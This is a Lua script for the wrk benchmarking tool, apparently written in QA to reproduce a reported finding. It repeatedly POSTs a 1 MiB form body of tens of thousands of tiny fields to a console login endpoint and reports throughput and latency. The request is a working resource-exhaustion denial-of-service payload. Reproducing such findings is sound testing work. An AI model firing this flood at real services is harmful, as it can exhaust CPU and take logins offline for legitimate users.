-- wrk script: POST the console's sign-in a form body of 1 MiB in many small fields, again and again,
-- as the attacker of QA finding 2 did (there 48,000 fields cost 11.6 s of CPU each).
local fields = {}
local size = 0
local n = 0
while size < 1024 * 1024 do
  local field = "k" .. n .. "=v"
  fields[#fields + 1] = field
  size = size + #field + 1
  n = n + 1
end
local body = table.concat(fields, "&")
local request_text = wrk.format("POST", "/console/login", {["Content-Type"] = "application/x-www-form-urlencoded"}, body)

request = function()
  return request_text
end

done = function(summary, latency, requests)
  io.write(string.format("RESULT requests=%d rps=%.1f p50_ms=%.2f p99_ms=%.2f ok=%d other=%d errors=%d\n",
    summary.requests, summary.requests / (summary.duration / 1e6), latency:percentile(50) / 1000,
    latency:percentile(99) / 1000, summary.requests - summary.errors.status, summary.errors.status,
    summary.errors.connect + summary.errors.read + summary.errors.write + summary.errors.status + summary.errors.timeout))
end
